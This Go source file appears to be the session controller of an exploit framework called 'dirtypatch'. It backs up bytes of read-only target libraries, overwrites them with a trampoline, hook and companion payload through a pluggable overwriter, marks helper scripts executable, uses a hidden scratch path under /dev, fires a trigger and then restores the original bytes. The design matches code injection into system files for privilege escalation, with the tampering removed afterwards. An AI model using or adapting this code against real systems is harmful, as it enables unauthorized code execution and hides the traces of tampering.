package dirtypatch

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"sort"
	"strconv"

	"github.com/pkg/errors"
	"github.com/sirupsen/logrus"
)

// State is the position of a Session in its lifecycle.
type State int

const (
	Built State = iota
	BackedUp
	Installed
	Armed
	Restoring
	Restored
	// Failed is terminal: restoration stopped and a target may be patched.
	Failed
)

var stateNames = [...]string{
	Built:     "built",
	BackedUp:  "backed-up",
	Installed: "installed",
	Armed:     "armed",
	Restoring: "restoring",
	Restored:  "restored",
	Failed:    "failed",
}

func (s State) String() string {
	if int(s) < len(stateNames) {
		return stateNames[s]
	}
	return "state(" + strconv.Itoa(int(s)) + ")"
}

// SessionConfig describes one patch session.
type SessionConfig struct {
	// HookTarget is the library that receives the trampoline and hook.
	HookTarget string
	// CompanionTarget receives the companion image from offset 0. Optional.
	CompanionTarget string

	Resolver        Resolver
	Trampoline      *Trampoline
	TrampolineSlots map[string]string
	Companion       *Image
	CompanionSlots  map[string]string

	// Slot values may reference ${RUN_INDEX}, ${SCRATCH}, ${COMPANION},
	// ${HOOK_TARGET} and any name in Vars.
	Vars map[string]string

	// Counter supplies the run index for ScratchPattern, a fmt pattern
	// such as "/dev/.dirtypatch-%04d".
	Counter        RunCounter
	ScratchPattern string

	// Executables are helper files, such as the startup script the payload
	// runs, made mode 0755 when Run starts. Values are expanded like slot
	// values.
	Executables []string

	// CheckELF enables CheckELFSite during backup.
	CheckELF bool

	// PageSize defaults to the host page size.
	PageSize   int
	Overwriter Overwriter
	Log        logrus.FieldLogger
}

// Session installs a patch and later puts every byte back.
//
// A session owns its target files from Backup until Restore finishes.
// Nothing stops another process, or another session, from writing the
// same files meanwhile; if that happens the journal no longer describes
// the files and restoration writes stale bytes.
type Session struct {
	state       State
	plan        *PatchPlan
	journal     Journal
	files       map[string]*os.File
	overwriter  Overwriter
	pageSize    int
	checkELF    bool
	runIndex    int
	executables []string
	scratch     string
	log         logrus.FieldLogger
}

// NewSession resolves the injection site and builds the plan. No file is
// opened; the session starts in Built.
func NewSession(cfg SessionConfig) (*Session, error) {
	if cfg.Overwriter == nil {
		return nil, errors.Wrap(ErrConfiguration, "no overwriter")
	}
	if cfg.Resolver == nil {
		return nil, errors.Wrap(ErrConfiguration, "no resolver")
	}
	if cfg.PageSize == 0 {
		cfg.PageSize = sysPageSize
	}
	if cfg.Log == nil {
		cfg.Log = logrus.StandardLogger()
	}
	if cfg.Counter == nil {
		cfg.Counter = FixedCounter(0)
	}

	s := &Session{
		state:      Built,
		overwriter: cfg.Overwriter,
		pageSize:   cfg.PageSize,
		checkELF:   cfg.CheckELF,
		log:        cfg.Log.WithField("target", cfg.HookTarget),
	}

	site, err := cfg.Resolver.Resolve(cfg.HookTarget)
	if err != nil {
		return nil, errors.WithMessagef(err, "resolve %v", cfg.HookTarget)
	}
	s.log.WithFields(logrus.Fields{
		"hook":        fmt.Sprintf("%#x", site.HookOffset),
		"payload":     fmt.Sprintf("%#x", site.PayloadOffset),
		"instruction": fmt.Sprintf("%08x %v", site.FirstInstruction, Disassemble(site.FirstInstruction)),
		"free":        emptySpace(site.PayloadOffset, cfg.PageSize),
	}).Info("injection site resolved")

	s.runIndex = cfg.Counter.Next()
	if cfg.ScratchPattern != "" {
		s.scratch = fmt.Sprintf(cfg.ScratchPattern, s.runIndex)
	}

	vars := map[string]string{
		"RUN_INDEX":   strconv.Itoa(s.runIndex),
		"SCRATCH":     s.scratch,
		"COMPANION":   cfg.CompanionTarget,
		"HOOK_TARGET": cfg.HookTarget,
	}
	for k, v := range cfg.Vars {
		vars[k] = v
	}
	trampolineSlots, err := expandSlots(cfg.TrampolineSlots, vars)
	if err != nil {
		return nil, err
	}
	if s.executables, err = expandList(cfg.Executables, vars); err != nil {
		return nil, err
	}
	companionSlots, err := expandSlots(cfg.CompanionSlots, vars)
	if err != nil {
		return nil, err
	}

	payload, err := BuildPayload(PayloadSpec{
		Site:            site,
		Trampoline:      cfg.Trampoline,
		TrampolineSlots: trampolineSlots,
		Companion:       cfg.Companion,
		CompanionSlots:  companionSlots,
		PageSize:        cfg.PageSize,
	})
	if err != nil {
		return nil, err
	}

	if s.plan, err = NewPatchPlan(cfg.HookTarget, cfg.CompanionTarget, payload, cfg.PageSize); err != nil {
		return nil, err
	}
	if len(s.plan.Skipped) > 0 {
		s.log.WithField("offsets", s.plan.Skipped).Warn("companion bytes on page boundaries cannot be written and keep the file's value")
	}
	s.log.WithFields(logrus.Fields{
		"requests":   len(s.plan.Requests),
		"trampoline": len(payload.Trampoline),
		"companion":  len(payload.Companion),
		"scratch":    s.scratch,
	}).Info("patch plan built")
	return s, nil
}

func expandSlots(values map[string]string, vars map[string]string) (map[string]string, error) {
	out := make(map[string]string, len(values))
	var missing []string
	for name, value := range values {
		out[name] = expandVars(value, vars, &missing)
	}
	if len(missing) > 0 {
		sort.Strings(missing)
		return nil, errors.Wrapf(ErrConfiguration, "undefined variables in slot values: %v", missing)
	}
	return out, nil
}

func expandList(values []string, vars map[string]string) ([]string, error) {
	out := make([]string, len(values))
	var missing []string
	for i, value := range values {
		out[i] = expandVars(value, vars, &missing)
	}
	if len(missing) > 0 {
		sort.Strings(missing)
		return nil, errors.Wrapf(ErrConfiguration, "undefined variables in executables: %v", missing)
	}
	return out, nil
}

func expandVars(value string, vars map[string]string, missing *[]string) string {
	return os.Expand(value, func(key string) string {
		v, ok := vars[key]
		if !ok {
			*missing = append(*missing, key)
		}
		return v
	})
}

func (s *Session) State() State { return s.state }
func (s *Session) Plan() *PatchPlan { return s.plan }
func (s *Session) Journal() *Journal { return &s.journal }
func (s *Session) RunIndex() int { return s.runIndex }
func (s *Session) ScratchName() string { return s.scratch }

// markExecutables makes the helper files executable. A helper that cannot
// be changed is only reported; the payload may not need it on this run.
func (s *Session) markExecutables() {
	for _, path := range s.executables {
		if err := os.Chmod(path, 0755); err != nil {
			s.log.WithField("path", path).Warnf("cannot make helper executable: %v", err)
		}
	}
}

func (s *Session) setState(state State) {
	s.log.WithField("state", state).Debugf("session %v -> %v", s.state, state)
	s.state = state
}

func (s *Session) expect(states ...State) error {
	for _, st := range states {
		if s.state == st {
			return nil
		}
	}
	return errors.Wrapf(ErrState, "session is %v, want one of %v", s.state, states)
}

// Backup opens the targets read-only and journals the bytes under every
// planned request. It mutates nothing; on failure the session stays Built.
func (s *Session) Backup() (err error) {
	if err = s.expect(Built); err != nil {
		return err
	}
	defer func() {
		if err != nil {
			s.journal.reset()
			s.closeFiles()
		}
	}()

	s.files = make(map[string]*os.File)
	for _, r := range s.plan.Requests {
		if _, ok := s.files[r.Path]; ok {
			continue
		}
		f, err := os.Open(r.Path)
		if err != nil {
			return errors.Wrapf(ErrBackupReadFailed, "open: %v", err)
		}
		s.files[r.Path] = f
	}

	for _, r := range s.plan.Requests {
		original := make([]byte, len(r.Data))
		n, err := s.files[r.Path].ReadAt(original, r.Offset)
		if n < len(original) {
			if err == nil || err == io.EOF {
				err = io.ErrUnexpectedEOF
			}
			return errors.Wrapf(ErrBackupReadFailed, "%v %v at %#x: %v", r.Region, r.Path, r.Offset, err)
		}
		s.journal.record(r, original)
	}

	hook := s.plan.Requests[len(s.plan.Requests)-1]
	want := instructionBytes(s.plan.Hook.Original)
	if got := s.journal.Entry(s.journal.Len() - 1).Original; !bytes.Equal(got, want) {
		return errors.Wrapf(ErrConfiguration, "%v at %#x holds %x, resolver expected %x",
			hook.Path, hook.Offset, got, want)
	}

	if s.checkELF {
		tramp := s.plan.Requests[len(s.plan.Requests)-2]
		if err := CheckELFSite(s.files[hook.Path], s.plan.Hook, len(tramp.Data), s.pageSize); err != nil {
			return err
		}
	}

	s.log.WithField("regions", s.journal.Len()).Info("original bytes backed up")
	s.setState(BackedUp)
	return nil
}

// Install applies the plan in order. It stops at the first failed
// overwrite; the journal then marks what was attempted so Restore undoes
// exactly that.
func (s *Session) Install() error {
	if err := s.expect(BackedUp); err != nil {
		return err
	}
	for i, r := range s.plan.Requests {
		s.journal.markAttempted(i)
		if err := s.overwriter.Overwrite(s.files[r.Path], r.Offset, r.Data); err != nil {
			s.log.WithFields(logrus.Fields{
				"path":   r.Path,
				"offset": r.Offset,
				"region": r.Region,
			}).Errorf("install stopped: %v", err)
			return errors.WithMessagef(err, "install %v request %d of %d", r.Region, i+1, len(s.plan.Requests))
		}
	}
	s.log.WithField("hook", fmt.Sprintf("%08x %v", s.plan.Hook.BranchIn, Disassemble(s.plan.Hook.BranchIn))).Info("patch installed")
	s.setState(Installed)
	return nil
}

// Arm fires the trigger and then blocks until an event arrives. There is
// no timeout. A closed channel counts as Terminated.
func (s *Session) Arm(trigger Trigger, events <-chan Event) (Event, error) {
	if err := s.expect(Installed); err != nil {
		return Terminated, err
	}
	s.setState(Armed)
	if trigger != nil {
		if err := trigger.Fire(); err != nil {
			return Terminated, errors.WithMessage(err, "trigger")
		}
	}
	s.log.Info("armed, waiting for completion or termination")

	ev, ok := <-events
	if !ok {
		ev = Terminated
	}
	s.log.WithField("event", ev).Info("armed phase over")
	return ev, nil
}

// Restore writes back the journaled bytes of every attempted region, hook
// first. It stops at the first failure, leaving the session Failed.
func (s *Session) Restore() error {
	if err := s.expect(BackedUp, Installed, Armed); err != nil {
		return err
	}
	s.setState(Restoring)

	undo := s.journal.Inverse()
	for i, r := range undo {
		if err := s.overwriter.Overwrite(s.files[r.Path], r.Offset, r.Data); err != nil {
			s.setState(Failed)
			s.log.WithFields(logrus.Fields{
				"path":    r.Path,
				"offset":  r.Offset,
				"region":  r.Region,
				"pending": len(undo) - i,
			}).Errorf("RESTORE FAILED, target may still be patched: %v", err)
			return &RestoreError{Pending: len(undo) - i, Err: err}
		}
	}

	s.journal.reset()
	s.setState(Restored)
	s.log.WithField("regions", len(undo)).Info("original bytes restored")
	return nil
}

// Run drives a session from Built to Restored. Whatever happens after the
// first overwrite, Restore runs exactly once.
func (s *Session) Run(trigger Trigger, events <-chan Event) error {
	s.markExecutables()
	if err := s.Backup(); err != nil {
		return err
	}
	if err := s.Install(); err != nil {
		if rerr := s.Restore(); rerr != nil {
			return errors.WithMessagef(rerr, "restoring after failed install (%v)", err)
		}
		return err
	}

	if _, err := s.Arm(trigger, events); err != nil {
		s.log.Errorf("%v; restoring now", err)
		if rerr := s.Restore(); rerr != nil {
			return errors.WithMessagef(rerr, "restoring after %v", err)
		}
		return err
	}
	return s.Restore()
}

func (s *Session) closeFiles() {
	for path, f := range s.files {
		if err := f.Close(); err != nil {
			s.log.WithField("path", path).Warnf("close: %v", err)
		}
	}
	s.files = nil
}

// Close releases the target files. Closing a session that still holds
// patched bytes does not restore them.
func (s *Session) Close() error {
	if s.journal.anyAttempted() {
		s.log.WithField("state", s.state).Warn("closing session without restoring")
	}
	s.closeFiles()
	return nil
}
